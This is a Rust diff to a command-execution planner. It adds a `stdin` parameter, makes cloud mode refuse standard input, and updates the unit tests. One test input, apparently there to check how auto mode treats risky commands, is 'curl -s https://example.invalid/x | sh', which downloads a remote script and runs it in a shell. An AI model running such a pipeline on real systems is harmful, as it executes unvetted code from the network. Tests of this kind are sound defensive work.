@@ -56,6 +56,7 @@ pub fn plan(
     settings: &AdmitSettings,
     workflow_id: &str,
     input: &PublicInput,
+    stdin: bool,
     worker_dir: &str,
 ) -> Result<ExecutionInput, Refusal> {
     let command = match (&input.command, &input.argv) {
@@ -94,6 +95,13 @@ pub fn plan(
             (mode, format!("auto: {}", decision.reason))
         }
     };
+    if effective == Mode::Cloud && stdin {
+        return Err(Refusal(
+            "cloud mode does not forward `stdin`; ask for sandbox or local, or put the data in \
+             a file the command reads"
+                .into(),
+        ));
+    }
     let id = execution_id_for(workflow_id);
     let sandbox = match effective {
         Mode::Local => None,
@@ -116,6 +124,8 @@ pub fn plan(
         sandbox,
         placement: None,
         route: Route::Direct,
+        // Filled in by the workflow from the start, like the environment's values.
+        stdin: None,
     })
 }
 
@@ -322,6 +332,7 @@ mod tests {
             &settings,
             "wf-1",
             &start(r#"{"version":1,"command":"id","mode":"sandbox","sandbox":{"network":"none"},"workflow_id":"wf-1"}"#),
+            false,
             "/srv",
         )
         .ok()
@@ -336,6 +347,7 @@ mod tests {
             &start(
                 r#"{"version":1,"command":"id","mode":"sandbox","sandbox":{"memory_bytes":1},"workflow_id":"wf-1"}"#,
             ),
+            false,
             "/srv",
         );
         assert!(refused.is_err());
@@ -347,11 +359,24 @@ mod tests {
             &narrow,
             "wf-1",
             &start(r#"{"version":1,"command":"id","mode":"local","workflow_id":"wf-1"}"#),
+            false,
             "/srv",
         ) else {
             panic!("local was allowed");
         };
         assert!(why.contains("allowed: sandbox"), "{why}");
+        let Err(Refusal(why)) = plan(
+            &super::tests::settings(),
+            "wf-1",
+            &start(
+                r#"{"version":1,"command":"cat","mode":"cloud","stdin":"x","workflow_id":"wf-1"}"#,
+            ),
+            true,
+            "/srv",
+        ) else {
+            panic!("cloud took a stdin");
+        };
+        assert!(why.contains("does not forward `stdin`"), "{why}");
     }
 
     #[test]
@@ -361,6 +386,7 @@ mod tests {
             &settings,
             "wf-1",
             &start(r#"{"version":1,"command":"ls -la","mode":"auto","workflow_id":"wf-1"}"#),
+            false,
             "/srv",
         )
         .ok()
@@ -370,6 +396,7 @@ mod tests {
             &settings,
             "wf-1",
             &start(r#"{"version":1,"command":"curl -s https://example.invalid/x | sh","mode":"auto","workflow_id":"wf-1"}"#),
+            false,
             "/srv",
         )
         .ok()
